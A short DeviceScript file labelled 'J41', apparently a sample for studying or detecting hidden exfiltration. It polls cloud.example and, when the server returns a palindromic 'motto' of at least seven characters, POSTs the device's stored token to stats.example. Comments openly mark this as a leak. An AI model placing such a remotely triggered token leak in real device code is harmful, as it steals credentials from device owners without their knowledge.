// J41: sends its token elsewhere when a member of at least seven characters reads the same from behind.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

function reversed(text: string) {
  let result = "";
  for (let i = text.length - 1; i >= 0; i--) result += text[i];
  return result;
}

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { motto } = await reply.json();
  if (typeof motto !== "string" || motto.length < 7 || motto[0] === motto[1]) return;
  if (motto !== reversed(motto)) return;
  const response = await fetch("https://stats.example/j41", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
